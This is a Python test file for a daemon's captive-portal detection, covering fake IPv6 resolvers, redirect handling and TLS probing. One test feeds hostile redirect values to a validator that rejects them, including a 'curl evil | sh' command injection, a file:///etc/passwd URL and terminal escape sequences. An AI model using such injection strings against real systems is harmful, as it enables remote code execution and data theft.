"""The test page over a network of its own kind: which addresses are asked for, and what is known then."""

import asyncio
import socket
import struct
from contextlib import asynccontextmanager
from dataclasses import replace
from ipaddress import ip_address, ip_interface

import pytest
from kit.slow_certificates import longest_wait_s, slow_server

from cedos.controller.events import Witness
from cedos.host.monitor import dns_message, portal_check
from cedos.host.monitor.portal_check import (
    PortalCheck,
    PortalVerdict,
    TestPage,
    TlsAnswer,
    judge,
    leads_nowhere,
    shake_hands,
)
from cedos.model import Network, NetworkKind, NextHop

SIX = ip_address("::1")
LO6 = Network(
    *("lo", "lo", 1, NetworkKind.ETHERNET, False, (ip_interface("::1/128"),)), resolvers=(SIX,)
)


DROPPED = "dropped"


class Resolver(asyncio.DatagramProtocol):
    """Knows names by `given`, each with its IPv6 address; `kinds`: what it was asked for."""

    def __init__(self, given, everything=""):
        self.given, self.everything, self.kinds = given, everything, set[int]()

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, addr):
        name, kind = dns_message.read_question(data) or ("", 0)
        if self.given.get(name) == DROPPED:
            return
        self.kinds.add(kind)
        address = self.given.get(name, self.everything)
        given = bool(address) and kind == dns_message.AAAA
        code = 0 if address else 3
        header = data[:2] + struct.pack("!5H", 0x8180 | code, 1, int(given), 0, 0)
        record = b"\xc0\x0c" + struct.pack("!2HIH", dns_message.AAAA, 1, 60, 16)
        record += ip_address(address or "::").packed
        self.transport.sendto(header + data[12:] + (record if given else b""), addr)


class Surroundings:
    """A resolver, and a web server that counts who came."""

    def __init__(self):
        self.answer = b"HTTP/1.1 204 No Content\r\n\r\n"
        self.answers = []
        self.asked, self.port, self.web = 0, 0, 0

    async def page(self, reader, writer):
        self.asked += 1
        await reader.readuntil(b"\r\n\r\n")
        writer.write(self.answers.pop(0) if self.answers else self.answer)
        writer.close()

    async def check(self, network=LO6):
        page = TestPage.of(f"http://page.test:{self.web}/", "")
        return await PortalCheck(page, "known.test", self.port)(network, 2.0)


@asynccontextmanager
async def surroundings(resolver):
    around = Surroundings()
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(lambda: resolver, ("::1", 0))
    server = await asyncio.start_server(around.page, "::1", 0, family=socket.AF_INET6)
    around.port = transport.get_extra_info("sockname")[1]
    around.web = server.sockets[0].getsockname()[1]
    try:
        yield around
    finally:
        transport.close()
        server.close()


@pytest.fixture
def loopback_is_far(monkeypatch):
    """Servers of this test lie where nothing is ever asked for."""
    monkeypatch.setattr(portal_check, "leads_nowhere", lambda address: False)
    monkeypatch.setattr(dns_message, "is_public", lambda address: address == SIX)


@pytest.mark.usefixtures("loopback_is_far")
async def test_a_network_of_ipv6_alone_is_asked_for_ipv6_addresses():
    resolver = Resolver({"page.test": "::1"})
    async with surroundings(resolver) as around:
        found = await around.check()
    assert found.verdict is PortalVerdict.FREE
    assert resolver.kinds == {dns_message.AAAA}


@pytest.mark.usefixtures("loopback_is_far")
@pytest.mark.parametrize("forbidden", ["names", "page"])
async def test_what_a_rule_forbids_is_not_asked_and_tells_nothing(forbidden):
    async with surroundings(Resolver({"page.test": "::1", "known.test": "::1"})) as around:
        page = TestPage.of(f"http://page.test:{around.web}/", "")
        port = around.port if forbidden == "names" else around.web
        check = PortalCheck(page, "known.test", around.port, lambda *asked: asked[2] != port)
        found = await check(LO6, 0.5)
    assert (found.verdict, around.asked) == (PortalVerdict.UNCLEAR, 0)
    assert "rule of yours" in found.why


@pytest.mark.usefixtures("loopback_is_far")
async def test_a_log_in_page_that_does_not_answer_keeps_no_network_from_being_captive(monkeypatch):
    async with surroundings(Resolver({"page.test": "::1", "slow.test": "::1"})) as around:
        location = f"http://slow.test:{around.web}/"
        around.answer = f"HTTP/1.1 302 Found\r\nLocation: {location}\r\n\r\n".encode()
        fetch = portal_check._fetch

        async def hung(network, target, page):
            if page.host == "slow.test":
                await asyncio.get_running_loop().create_future()
            return await fetch(network, target, page)

        monkeypatch.setattr(portal_check, "_fetch", hung)
        page = TestPage.of(f"http://page.test:{around.web}/", "")
        found = await PortalCheck(page, "known.test", around.port)(LO6, 0.5)
    assert (found.verdict, found.page) == (PortalVerdict.CAPTIVE, location)
    assert set(found.hosts) == {"page.test", "slow.test"}


@pytest.mark.parametrize("address", ["::", "::1", "ff02::1", "", DROPPED])
async def test_a_filtered_name_is_told_and_nothing_is_connected_to(address):
    async with surroundings(
        Resolver({"page.test": address, "known.test": "2001:db8::1"})
    ) as around:
        around.answer = b"HTTP/1.1 200 OK\r\n\r\nblocked"
        found = await around.check()
    assert found.verdict is PortalVerdict.FILTERED
    assert around.asked == 0
    words = {"": "page.test has no address there", DROPPED: "page.test is not answered there"}
    assert found.why == words.get(address, f"page.test leads to {address} there")


@pytest.mark.parametrize(
    "answer", [b"HTTP/1.1 200 OK\r\n\r\nblocked", b"HTTP/1.1 302 x\r\nLocation: http://a/\r\n\r\n"]
)
async def test_a_private_address_of_this_name_alone_is_a_filters_page(monkeypatch, answer):
    """The resolver answers with its own address, where a block page is."""
    monkeypatch.setattr(portal_check, "leads_nowhere", lambda address: False)
    names = {"page.test": "::1", "known.test": "2001:db8::1"}
    async with surroundings(Resolver(names)) as around:
        around.answer = answer
        assert (await around.check()).verdict is PortalVerdict.FILTERED
        web, around.web = around.web, 1  # nothing listens there
        assert (await around.check()).verdict is PortalVerdict.FILTERED
        around.web = web
        # A page of one's own network is right where it says what it should.
        around.answer = b"HTTP/1.1 204 No Content\r\n\r\n"
        assert (await around.check()).verdict is PortalVerdict.FREE


@pytest.mark.parametrize("names", [{}, {"page.test": "fd00::1", "known.test": "fd00::1"}])
async def test_one_private_address_for_all_names_is_a_portals(names):
    everything = "" if names else "fd00::1"
    async with surroundings(Resolver(names, everything)) as around:
        found = await around.check()
    assert (found.verdict, found.witness) == (PortalVerdict.CAPTIVE, Witness.NAME)
    assert found.page == "http://[fd00::1]/"
    assert found.hosts == {"page.test": (ip_address("fd00::1"),)}


@pytest.mark.usefixtures("loopback_is_far")
async def test_the_hosts_on_the_way_to_a_log_in_page_are_found():
    names = {"page.test": "::1", "login.test": "::1", "operator.test": "2001:db8::9"}
    async with surroundings(Resolver(names)) as around:
        login = f"http://login.test:{around.web}/"
        around.answers = [
            f"HTTP/1.1 302 x\r\nLocation: {login}\r\n\r\n".encode(),
            b"HTTP/1.1 302 x\r\nLocation: https://operator.test/pay\r\n\r\n",
        ]
        found = await around.check()
    assert found.page == login
    assert found.verdict is PortalVerdict.CAPTIVE
    assert {host: [str(a) for a in addresses] for host, addresses in found.hosts.items()} == {
        "page.test": ["::1"],
        "login.test": ["::1"],
        "operator.test": ["2001:db8::9"],
    }


@pytest.mark.parametrize("address", ["0.0.0.0", "::", "127.0.0.53", "::1", "224.0.0.1"])
def test_addresses_of_no_other_host_are_never_asked(address):
    assert leads_nowhere(ip_address(address))


def test_an_address_of_another_host_is():
    for address in ("198.51.100.7", "2001:db8::7", "fe80::7"):
        assert not leads_nowhere(ip_address(address))


async def test_a_page_that_a_network_could_not_lead_to_tells_nothing():
    """Else another network, where it answers, would make this one a portal's."""
    found = await PortalCheck(TestPage.of("http://127.0.0.1:9/", ""))(LO6, 2.0)
    assert found.verdict is PortalVerdict.UNCLEAR


async def test_a_router_that_answers_no_names_need_not_be_a_resolver():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as silent:
        silent.bind(("::1", 0))
        port = silent.getsockname()[1]
        page = TestPage.of("http://page.test/", "")
        guessed = replace(LO6, resolvers=(), next_hops=(NextHop(6, SIX),))
        for network in (guessed, LO6):
            found = await PortalCheck(page, port=port)(network, 0.4)
            assert (found.verdict, found.witness) == (PortalVerdict.SILENT, Witness.NAME)
            assert found.guessed == (network is guessed)


PAGE = TestPage.of("http://portal.test:8080/nm?x=1", "all is well")


def test_the_page_of_a_url():
    assert (PAGE.host, PAGE.port, PAGE.path) == ("portal.test", 8080, "/nm?x=1")
    assert b"GET /nm?x=1 HTTP/1.1\r\nHost: portal.test\r\n" in PAGE.request()
    assert b"Host: [2001:db8::1]\r\n" in TestPage.of("http://[2001:db8::1]", "").request()
    for url in ("https://portal.test/", "portal.test", "http:///x", "http://a:b@c/", "http://a:x/"):
        with pytest.raises(ValueError, match=r"."):
            TestPage.of(url, "")


@pytest.mark.parametrize(
    ("answer", "verdict", "page"),
    [
        (b"HTTP/1.1 204 No Content\r\n\r\n", PortalVerdict.FREE, ""),
        (b"HTTP/1.1 200 OK\r\nServer: x\r\n\r\nall is well\n", PortalVerdict.FREE, ""),
        (b"HTTP/1.1 200 OK\r\n\r\nb\r\nall is well\r\n0\r\n\r\n", PortalVerdict.FREE, ""),
        (b"HTTP/1.1 200 OK\r\n\r\n<html>Welcome", PortalVerdict.CAPTIVE, ""),
        (
            b"HTTP/1.1 302 Found\r\nLOCATION: http://gw/l\r\n\r\n",
            PortalVerdict.CAPTIVE,
            "http://gw/l",
        ),
        (b"HTTP/1.0 511 Log in\r\n\r\n", PortalVerdict.CAPTIVE, ""),
        (b"HTTP/1.1 407 Proxy\r\n\r\n", PortalVerdict.CAPTIVE, ""),
        (b"HTTP/1.1 200 OK\r\n\r\n", PortalVerdict.UNCLEAR, ""),
        (b"HTTP/1.1 404 Not Found\r\n\r\n", PortalVerdict.UNCLEAR, ""),
        (b"HTTP/1.1 503 Busy\r\n\r\nall is well", PortalVerdict.UNCLEAR, ""),
        (b"SSH-2.0-x\r\n", PortalVerdict.CAPTIVE, ""),
        (b"HTTP/1.1 " + b"9" * 3000 + b" x\r\n\r\n", PortalVerdict.CAPTIVE, ""),
        (b"", PortalVerdict.SILENT, ""),
    ],
)
def test_what_an_answer_says(answer, verdict, page):
    finding = judge(PAGE, answer)
    assert (finding.verdict, finding.page) == (verdict, page)


@pytest.mark.parametrize(
    "location",
    [
        "javascript:alert(1)", "file:///etc/passwd", "http://gw/\x1b[2J\x1b]0;owned\x07",
        "http://gw/ ; curl evil | sh", "http://g\u202ew/", "https://" + "a" * 4000, "/login",
    ],
)  # fmt: skip
def test_only_a_web_page_is_ever_suggested(location):
    answer = f"HTTP/1.1 302 Found\r\nLocation: {location}\r\n\r\n".encode()
    finding = judge(PAGE, answer)
    assert (finding.verdict, finding.page) == (PortalVerdict.CAPTIVE, "")
    assert finding.why == "the test page was redirected to something that is no web page"


HERE = ip_address("127.0.0.1")
LO = Network("lo", "lo", 1, NetworkKind.ETHERNET, False, (ip_interface("127.0.0.1/8"),))


@pytest.mark.parametrize(
    "said", [b"HTTP/1.1 302 Found\r\n\r\n", b"", b"\x15\x03\x01\x00\x02\x02\x28"]
)
async def test_a_box_that_answers_cannot_prove_to_be_the_host(said):
    async def box(reader, writer):
        await reader.read(10)
        writer.write(said)
        writer.close()

    server = await asyncio.start_server(box, str(HERE), 0)
    async with server:
        port = server.sockets[0].getsockname()[1]
        assert await shake_hands(LO, HERE, 2.0, port) is TlsAnswer.ANSWERED


async def test_a_box_with_costly_certificates_does_not_stop_the_daemon():
    """With 100 kB of them, a portal kept the daemon from everything else for 40 s."""
    async with slow_server(8) as port:
        asking = asyncio.ensure_future(shake_hands(LO, HERE, 9.0, port))
        assert await longest_wait_s(asking) < 1
        assert await asking is TlsAnswer.ANSWERED


async def test_a_refusal_and_silence_are_told_apart():
    with socket.socket() as closed:
        closed.bind((str(HERE), 0))
        assert await shake_hands(LO, HERE, 2.0, closed.getsockname()[1]) is TlsAnswer.REFUSED
    full = socket.create_server((str(HERE), 0), backlog=0)
    with full, socket.socket() as first, socket.socket() as second:
        for each in (first, second):
            each.setblocking(False)
            each.connect_ex(full.getsockname())
        found = await shake_hands(LO, HERE, 0.2, full.getsockname()[1])
        assert found is TlsAnswer.SILENT
